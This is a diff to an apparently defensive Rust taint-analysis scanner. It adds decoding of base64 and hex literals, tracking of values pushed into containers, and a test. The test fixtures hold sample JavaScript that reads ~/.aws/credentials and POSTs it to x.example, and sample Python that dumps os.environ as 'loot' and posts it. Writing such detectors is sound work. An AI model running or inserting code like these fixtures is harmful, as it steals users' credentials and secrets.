@@ -673,6 +673,56 @@ struct State {
     changed: bool,
 }
 
+/// A literal given to a decoder, decoded (base64 or hex) when that gives
+/// text.
+fn decode_literal_text(lit: &str) -> Option<String> {
+    use base64::Engine as _;
+    let t = lit.trim();
+    if t.len() < 4 || t.len() > 64 << 10 {
+        return None;
+    }
+    let bytes = if t.len().is_multiple_of(2) && t.bytes().all(|b| b.is_ascii_hexdigit()) {
+        hex::decode(t).ok()?
+    } else {
+        let unpadded = t.trim_end_matches('=');
+        base64::engine::general_purpose::STANDARD_NO_PAD
+            .decode(unpadded)
+            .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(unpadded))
+            .ok()?
+    };
+    let text = String::from_utf8(bytes).ok()?;
+    text.chars()
+        .all(|c| !c.is_control() || c.is_whitespace())
+        .then_some(text)
+}
+
+/// Methods that put their arguments into their receiver.
+const MUTATORS: &[&str] = &[
+    "push",
+    "unshift",
+    "append",
+    "appendleft",
+    "extend",
+    "insert",
+    "add",
+    "update",
+    "set",
+    "put",
+    "write",
+    "writelines",
+    "concat",
+    "merge",
+    "assign",
+    "setdefault",
+    "push_str",
+    "extend_from_slice",
+    "store",
+    "merge!",
+    "update!",
+    "concat!",
+    "append!",
+];
+
 static REQUIRE_CALL: LazyLock<regex::Regex> = LazyLock::new(|| {
     regex::Regex::new(r#"(?:\brequire|\b__import__|\bimportlib\.import_module)\(\s*['"](?:node:)?([\w./@-]+)['"]\s*\)"#)
         .expect("valid")
@@ -983,8 +1033,19 @@ fn new_frame<'t>(
     if is_fn {
         let id = *next_scope;
         *next_scope += 1;
+        // A function's name, or the name it is assigned to
+        // (`const s = (x) => …`, `s = lambda x: …`).
         let name = node
             .child_by_field_name("name")
+            .or_else(|| {
+                let parent = node.parent()?;
+                match parent.kind() {
+                    "variable_declarator" => parent.child_by_field_name("name"),
+                    "assignment" | "assignment_expression" => parent.child_by_field_name("left"),
+                    _ => None,
+                }
+                .filter(|n| n.kind() == "identifier")
+            })
             .map(|n| String::from_utf8_lossy(&source[n.byte_range()]).into_owned());
         let params = node
             .child_by_field_name("parameters")
@@ -1207,6 +1268,25 @@ fn finish<'t>(
         note(out, direct, node);
         // Sinks: this call, a handle's method, or a continued chain.
         let bare = last_segment(&callee).to_owned();
+        // A decoder of a literal: what the literal decodes to is classed
+        // like any string (`atob('aHR0cHM6Ly9pcGFwaS5jby9qc29u')` is a
+        // geolocation URL).
+        let wraps_decoder = |d: usize| state.returns.get(&bare).is_some_and(|r| r & (1 << d) != 0);
+        let direct = match classes.index("decoded") {
+            Some(d) if direct & (1 << d) != 0 || wraps_decoder(d) => {
+                let mut folded = 0;
+                for lit in args.literals.iter().take(4) {
+                    if let Some(text) = decode_literal_text(lit) {
+                        folded |= classes.string_labels(&text);
+                    }
+                }
+                if folded != 0 {
+                    note(out, folded, node);
+                }
+                direct | folded
+            }
+            _ => direct,
+        };
         let handle_bit = classes.handle.map_or(0, |h| 1 << h);
         let receiver_labels = frame
             .children
@@ -1255,6 +1335,30 @@ fn finish<'t>(
             }
         }
         chain = hit_here.or(continued);
+        // Containers: `parts.push(x)`, `data.append(x)`, `d.update(x)`,
+        // `buf.write(x)` put x's labels into the container.
+        if args_labels & !sink_bits(classes) != 0 && MUTATORS.contains(&bare.as_str()) {
+            let receiver = callee_node
+                .and_then(|c| {
+                    c.child_by_field_name("object")
+                        .or_else(|| c.child_by_field_name("value"))
+                })
+                .or_else(|| node.child_by_field_name("receiver"))
+                .or_else(|| node.child_by_field_name("object"));
+            if let Some(r) = receiver
+                .filter(|r| spec.identifiers.contains(&r.kind()) || r.kind() == "variable_name")
+            {
+                let name = text(r);
+                let target = scopes
+                    .iter()
+                    .rev()
+                    .find(|s| state.bound.contains(&(**s, name.clone())))
+                    .or(scopes.last())
+                    .copied()
+                    .unwrap_or(0);
+                state.add((target, name), args_labels & !sink_bits(classes));
+            }
+        }
         // Local functions: parameters take the arguments' labels, the
         // call takes what the function returns.
         if let Some((scope, params)) = state.functions.get(&bare).cloned() {
@@ -1603,6 +1707,28 @@ mod tests {
             reaches(Language::Javascript, "index.js", code, "response", "eval"),
             "{:?}",
             sinks(Language::Javascript, "index.js", code)
+        );
+    }
+
+    #[test]
+    fn values_put_into_containers_travel_with_them() {
+        let js = "const fs = require('fs');\nconst out = [];\nfor (const p of ['a']) { out.push({ d: fs.readFileSync(process.env.HOME + '/.aws/credentials') }); }\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(out) });\n";
+        assert!(
+            reaches(
+                Language::Javascript,
+                "i.js",
+                js,
+                "credential-path",
+                "network"
+            ),
+            "{:?}",
+            sinks(Language::Javascript, "i.js", js)
+        );
+        let py = "import os, requests\nloot = {}\nloot.update(dict(os.environ))\nrequests.post('https://x.example', json=loot)\n";
+        assert!(
+            reaches(Language::Python, "a.py", py, "env-dump", "network"),
+            "{:?}",
+            sinks(Language::Python, "a.py", py)
         );
     }
 
